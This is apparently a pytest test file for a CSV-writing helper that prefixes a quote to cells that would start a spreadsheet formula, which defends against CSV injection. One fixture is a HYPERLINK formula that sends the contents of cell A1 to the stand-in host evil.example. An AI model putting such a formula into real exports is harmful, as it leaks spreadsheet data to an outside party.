"""CSV cells a spreadsheet opens as data: text that would start a formula gets a leading quote."""

from __future__ import annotations

import csv
import io

import pytest

from ivr.core import csvcells

FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Anna\")"


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1", FORMULA])
def test_a_cell_that_would_start_a_formula_is_quoted(value):
    assert csvcells.cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Anna", "0202 5630", "2026-11-24", "", " =1", "a=b", 7, -7, 1.5, None])
def test_other_cells_pass_unchanged(value):
    assert csvcells.cell(value) == value


def test_the_writer_quotes_every_row_and_keeps_csv_options():
    out = io.StringIO()
    writer = csvcells.writer(out, delimiter=";")
    writer.writerow(["+4917612345678", "Anna; Berta", 3])
    writer.writerows([["=1", None], ["@x", "-"]])
    rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert rows == [["'+4917612345678", "Anna; Berta", "3"], ["'=1", ""], ["'@x", "'-"]]
